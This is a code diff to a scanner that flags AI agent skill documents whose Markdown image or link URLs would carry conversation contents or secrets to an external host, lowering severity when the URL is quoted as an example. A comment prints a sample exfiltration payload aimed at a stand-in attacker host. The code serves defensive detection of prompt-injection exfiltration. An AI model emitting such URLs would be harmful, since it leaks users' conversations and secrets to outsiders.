@@ -3,6 +3,7 @@ import { DESTRUCTIVE_COMMAND, DISABLE_SAFETY_RULE, prohibitedAt } from '../text/
 import { referenceFinding } from '../common/reference-finding.js';
 import { projectFormatterHook } from '../text/formatter-hook.js';
 import { lineLocator } from '../text/line-locator.js';
+import { isQuotedExample } from '../text/quoted-example.js';
 import { describedAsAttack } from './agent-action-findings.js';
 
 // Data a Markdown image URL should never carry: what the model has read or been told.
@@ -172,12 +173,20 @@ export function skillDocumentFindings(text: string, file: string): AgentFinding[
       if (STRONGLY_SENSITIVE.test(name)) worst = 'CRIT';
       else if (inQuery && (SENSITIVE.test(name) || name === '%s') && worst === null) worst = 'HIGH';
     }
-    if (worst) findings.push(referenceFinding({ category: 'exfiltration', severity: worst, title: 'Markdown image URL carries the conversation or secrets to an external host', ...at(m.index, m[0]) }));
+    if (worst === null) continue;
+    // A guidance text quoting the attack's shape (`![img](https://attacker.example/?q={secrets})` in a
+    // table of injection examples) is lowered like the quoted phrases beside it (isQuotedExample).
+    if (isQuotedExample(text, m.index, m.index + m[0].length)) {
+      findings.push(referenceFinding({ category: 'exfiltration', severity: 'LOW', title: 'Markdown image URL carries the conversation or secrets to an external host (quoted as an example)', ...at(m.index, m[0]) }));
+      continue;
+    }
+    findings.push(referenceFinding({ category: 'exfiltration', severity: worst, title: 'Markdown image URL carries the conversation or secrets to an external host', ...at(m.index, m[0]) }));
   }
   for (const m of text.matchAll(MD_LINK)) {
     const url = (m[1] ?? m[2]) as string;
     if (![...url.matchAll(PLACEHOLDER)].some((p) => STRONGLY_SENSITIVE.test((p[1] ?? p[2] ?? p[3] ?? p[4] ?? p[6] ?? '') as string))) continue;
-    findings.push(referenceFinding({ category: 'exfiltration', severity: 'HIGH', title: 'Markdown link carries the conversation or secrets to an external host', ...at(m.index, m[0]) }));
+    const quoted = isQuotedExample(text, m.index, m.index + m[0].length);
+    findings.push(referenceFinding({ category: 'exfiltration', severity: quoted ? 'LOW' : 'HIGH', title: `Markdown link carries the conversation or secrets to an external host${quoted ? ' (quoted as an example)' : ''}`, ...at(m.index, m[0]) }));
   }
   // An image whose query value is a slot (`?d=VALUES`, `?q={…}`, `?x=<…>`) that the surrounding
   // sentences say to fill from secrets, .env files or shell history: the rendering fetches the URL.
